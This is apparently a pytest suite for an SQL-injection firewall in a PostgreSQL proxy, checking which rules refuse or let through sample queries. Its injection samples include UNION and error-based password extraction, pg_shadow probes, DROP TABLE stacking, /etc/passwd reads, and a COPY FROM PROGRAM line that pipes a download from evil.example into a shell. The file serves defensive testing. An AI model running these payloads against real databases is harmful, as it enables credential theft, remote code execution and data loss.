"""Each injection rule: what it catches, what it lets through, and how `injection:` modes apply it."""

from __future__ import annotations

import pytest

from proxy.catalog import CatalogSnapshot, Column, Relation
from proxy.firewall.injection import Screening, screen_injection
from proxy.firewall.statement import SubmittedSql
from proxy.guard.pipeline import analyse
from proxy.guard.statement import GuardContext
from proxy.guard.verdict import Refuse
from proxy.policy.model import Policy, Role, Settings

APP = Role(name="fw_app", members=("fw_app",), tables=("*",), application=True)
ANALYST = Role(name="fw_analyst", members=("fw_analyst",), tables=("*",))
ADMIN = Role(name="fw_admin", members=("fw_admin",), tables=("*",), statements=frozenset({"all"}))


def rule_for(sql: str, role: Role = APP) -> str | None:
    refusal = screen_injection(SubmittedSql.parse(sql), role).refusal
    return refusal.rule if refusal else None


CAUGHT = [
    # (rule, role, sql)
    ("stacked-statements", APP, "SELECT name FROM items WHERE id = 1; SELECT pg_sleep(5)"),
    ("stacked-statements", APP, "SELECT name FROM items WHERE id = 1; DROP TABLE items"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE name = 'x' OR 'a'='a'"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 5 OR 5323=5323"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 5 AND 2>1"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 5 OR TRUE"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 5 OR NOT false"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE name = '' OR 'x' LIKE 'x'"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 5 AND 5323 = 5324"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 5 AND 1=1"),
    ("tautology", ANALYST, "SELECT * FROM users ORDER BY (CASE WHEN 7=7 THEN name ELSE email END)"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE name = 'x' OR name = name"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 1 AND users.id <> users.id"),
    ("time-based-probe", ANALYST, "SELECT * FROM users WHERE id = 1 OR pg_sleep(1) IS NOT NULL"),
    ("tautology", ANALYST, "SELECT * FROM users WHERE id = 1 OR (SELECT true)"),
    ("catalog-probe", ANALYST,
     "SELECT * FROM users WHERE id = 1 AND ASCII(SUBSTRING((SELECT usename FROM pg_user "
     "LIMIT 1) FROM 1 FOR 1)) > 64"),
    ("union-extraction", ANALYST, "SELECT id, name FROM items UNION ALL SELECT NULL, NULL"),
    ("union-extraction", ANALYST, "SELECT id, name FROM items UNION SELECT oid::int, relname FROM pg_class"),
    ("union-extraction", APP, "SELECT id, name FROM items UNION SELECT 1, 'x'"),
    ("union-extraction", APP,
     "SELECT id, name, price FROM items UNION ALL SELECT NULL, password, NULL FROM users"),
    ("time-based-probe", APP, "SELECT name FROM items WHERE id = (SELECT 5 FROM pg_sleep(5))"),
    ("time-based-probe", APP, "SELECT name FROM items, pg_sleep_for('5 seconds')"),
    ("time-based-probe", APP,
     "SELECT name FROM items WHERE id > (SELECT count(*) FROM generate_series(1, 5000000))"),
    ("time-based-probe", APP, "SELECT length(repeat('x', 50000000)) FROM items"),
    ("error-based-extraction", ANALYST,
     "SELECT * FROM items WHERE 1 = CAST((SELECT password FROM users LIMIT 1) AS int)"),
    ("error-based-extraction", ANALYST,
     "SELECT CAST('q' || (SELECT usename FROM pg_user LIMIT 1)::text || 'q' "
     "AS numeric)"),
    ("error-based-extraction", ANALYST, "SELECT (SELECT relname FROM pg_class LIMIT 1)::regclass"),
    ("error-based-extraction", ANALYST, "SELECT ('x' || version())::int"),
    ("catalog-probe", APP, "SELECT name FROM items WHERE id = 1 AND version() LIKE 'PostgreSQL%'"),
    ("catalog-probe", APP, "SELECT name, current_user FROM items"),
    ("catalog-probe", APP, "SELECT name FROM items WHERE owner = current_database()"),
    ("catalog-probe", APP, "SELECT usename, passwd FROM pg_shadow"),
    ("catalog-probe", APP, "SELECT rolname FROM pg_authid"),
    ("catalog-probe", APP, "SELECT usename FROM pg_user"),
    ("catalog-probe", APP, "SELECT tablename FROM pg_catalog.pg_tables"),
    ("catalog-probe", APP,
     "SELECT i.name FROM items i JOIN information_schema.columns c ON c.column_name = i.name"),
    ("comment-truncation", ANALYST, "SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'"),
    ("comment-truncation", APP, "SELECT * FROM users WHERE name = 'admin' /* x */ AND active"),
    ("comment-truncation", APP, "SELECT/**/name/**/FROM/**/items"),
    ("comment-truncation", APP, "SELECT name FROM items WHERE id = 1 -- trailing\n"),
    ("server-side-file", ANALYST, "COPY items FROM PROGRAM 'curl http://evil.example | sh'"),
    ("server-side-file", ADMIN, "COPY (SELECT 1) TO PROGRAM 'id'"),
    ("server-side-file", ANALYST, "COPY items FROM '/etc/passwd'"),
    ("server-side-file", ANALYST, "SELECT pg_read_file('/etc/passwd')"),
    ("server-side-file", ANALYST, "SELECT lo_import('/etc/passwd')"),
    ("server-side-file", ANALYST, "SELECT * FROM pg_ls_dir('.')"),
    ("char-obfuscation", ANALYST, "SELECT * FROM items WHERE name = CHR(119)||CHR(105)||CHR(100)"),
    ("char-obfuscation", ANALYST, "SELECT * FROM items WHERE name = concat(chr(97), chr(100))"),
    ("char-obfuscation", ANALYST,
     "SELECT * FROM items WHERE name = convert_from(decode('7573657273', 'hex'), "
     "'UTF8')"),
]

LET_THROUGH = [
    (APP, "SELECT name FROM items WHERE id = 1;"),
    (APP, "SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;"),
    (APP, "BEGIN; UPDATE items SET stock = stock - 1 WHERE id = 3; COMMIT;"),
    (ANALYST, "SELECT 1; SELECT 2"),
    (APP, "SELECT name FROM items WHERE 1=1 AND category = $1"),
    (APP, "SELECT name FROM items WHERE TRUE AND category = 'tools'"),
    (APP, "SELECT * FROM items WHERE 1=0"),
    (APP, "SELECT name FROM items WHERE ($1::text IS NULL OR category = $1)"),
    (ANALYST, "SELECT category FROM items GROUP BY category HAVING count(*) > 5"),
    (ANALYST, "SELECT * FROM docs WHERE owner = $1 OR EXISTS (SELECT 1 FROM admins WHERE name = $1)"),
    (ANALYST, "SELECT a.id FROM a JOIN b ON a.x = b.x WHERE a.id = 1 OR a.id IS NULL"),
    (ANALYST, "SELECT relname FROM pg_class WHERE relkind = 'r' AND pg_relation_is_publishable('1259')"),
    (ANALYST, "SELECT * FROM orders o WHERE (SELECT count(*) FROM lines l WHERE l.order_id = o.id) > 3"),
    (ANALYST, "SELECT a FROM t1 UNION SELECT a FROM t2"),
    (ANALYST, "SELECT region, sum(x) FROM t GROUP BY region UNION ALL SELECT 'total', sum(x) FROM t"),
    (ANALYST, "SELECT 1 AS n UNION ALL SELECT 2"),
    (ANALYST, "SELECT pg_sleep(1)"),
    (APP, "SELECT d FROM generate_series(1, 100) AS d"),
    (ANALYST, "SELECT oid::regclass, relname FROM pg_class"),
    (ANALYST, "SELECT (SELECT count(*) FROM items)::numeric / 3"),
    (ANALYST, "SELECT '42'::int, $1::int"),
    (APP, "SELECT pg_catalog.version()"),
    (APP, "select current_schema()"),
    (APP, "SELECT t.oid, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n "
          "ON n.oid = t.typnamespace WHERE t.oid = $1"),
    (ANALYST, "SELECT usename FROM pg_user"),
    (ANALYST, "SELECT name FROM items WHERE owner = current_user"),
    (APP, "/* app=shop,route=/items */ SELECT name FROM items WHERE id = 1"),
    (APP, "SELECT name FROM items WHERE id = 1 /*traceparent='00-abc-01'*/"),
    (ANALYST, "SELECT name -- the name\nFROM items"),
    (ANALYST, "COPY items TO STDOUT"),
    (ADMIN, "COPY items FROM '/srv/import/items.csv'"),
    (ANALYST, "SELECT string_agg(name, chr(10)) FROM items"),
    (ANALYST, "SELECT replace(replace(note, chr(13), ''), chr(10), ' ') FROM items"),
    (ANALYST, "SELECT encode(digest, 'hex') FROM items"),
]


@pytest.mark.parametrize(("rule", "role", "sql"), CAUGHT)
def test_rule_catches_injected_shape(rule: str, role: Role, sql: str) -> None:
    assert rule_for(sql, role) == rule


@pytest.mark.parametrize(("role", "sql"), LET_THROUGH)
def test_ordinary_sql_is_let_through(role: Role, sql: str) -> None:
    alerting = Role(**{**_fields(role), "injection": "alert"})
    assert screen_injection(SubmittedSql.parse(sql), alerting).findings == ()


def _fields(role: Role) -> dict[str, object]:
    return {name: getattr(role, name) for name in role.__dataclass_fields__}


def test_application_only_rules_do_not_apply_to_people() -> None:
    assert rule_for("SELECT name FROM items WHERE id = 1; SELECT count(*) FROM items", ANALYST) is None
    assert rule_for("SELECT pg_sleep(5); SELECT pg_sleep(1)", ANALYST) is None
    assert rule_for("SELECT name, current_user FROM items", ANALYST) is None
    assert rule_for("SELECT/**/name/**/FROM/**/items", ANALYST) is None


def test_refusal_message_says_what_was_seen_and_what_to_do() -> None:
    submitted = SubmittedSql.parse("SELECT * FROM users WHERE id = 5 OR 5323=5323")
    refusal = screen_injection(submitted, ANALYST).refusal
    assert refusal is not None
    assert "`5323 = 5323` compares constants" in refusal.message
    assert "compare a column with a value or a parameter" in refusal.message


def test_alert_mode_reports_every_matching_rule_and_refuses_nothing() -> None:
    alerting = Role(name="fw_alerting", application=True, injection="alert")
    screening = screen_injection(
        SubmittedSql.parse("SELECT name FROM items WHERE id = 1 OR 1=1 "
                           "UNION SELECT NULL, usename FROM pg_user--"),
        alerting,
    )
    assert screening.refusal is None
    assert set(screening.rule_names) >= {
        "tautology", "catalog-probe", "comment-truncation", "union-extraction"}


def test_off_mode_runs_no_rule() -> None:
    silent = Role(name="fw_silent", application=True, injection="off")
    submitted = SubmittedSql.parse("SELECT 1 OR 1=1; SELECT pg_sleep(9)--")
    assert screen_injection(submitted, silent) == Screening()


# --- through the guard pipeline -------------------------------------------------------------

CATALOG = CatalogSnapshot(
    database="shop",
    relations={"public.items": Relation("public", "items", "table", (
        Column("id", "integer", 23), Column("name", "text", 25), Column("category", "text", 25)))},
    functions={}, role_settings={}, server_search_path=("public",), generation="fw-injection",
)


def context(role: Role) -> GuardContext:
    policy = Policy(version="fw", settings=Settings(), roles={role.name: role}, datasets={})
    return GuardContext(policy=policy, role=role, catalog=CATALOG, user=role.name, search_path=("public",))


def test_guard_refuses_injection_with_the_rule_name_and_sqlstate_42501() -> None:
    verdict = analyse("SELECT name FROM items WHERE id = 1 OR 1=1", context(APP)).verdict
    assert isinstance(verdict, Refuse)
    assert verdict.sqlstate == "42501"
    assert verdict.text.startswith("pgveil: tautology: the condition `1 = 1` compares constants")
    assert verdict.info.findings == ("tautology",)


def test_guard_lets_alerted_statements_through_and_records_findings() -> None:
    alerting = Role(name="fw_app_alert", members=("x",), tables=("*",), application=True, injection="alert")
    verdict = analyse("SELECT name FROM items WHERE id = 1 OR 1=1", context(alerting)).verdict
    assert not isinstance(verdict, Refuse)
    assert verdict.info.findings == ("tautology",)


def test_guard_verdicts_that_hinge_on_literal_values_are_not_shared_by_shape() -> None:
    assert analyse("SELECT name FROM items WHERE 1=1 AND id = 3", context(APP)).literal_dependent
    assert analyse("SELECT name FROM items WHERE 2=2 AND id = 3", context(APP)).literal_dependent
    assert not analyse("SELECT name FROM items WHERE id = 3", context(APP)).literal_dependent


def test_guard_screens_a_multi_statement_message_once_at_its_first_statement() -> None:
    verdict = analyse("SELECT name FROM items WHERE id = 1; SELECT name FROM items", context(APP)).verdict
    assert isinstance(verdict, Refuse) and verdict.rule == "stacked-statements"
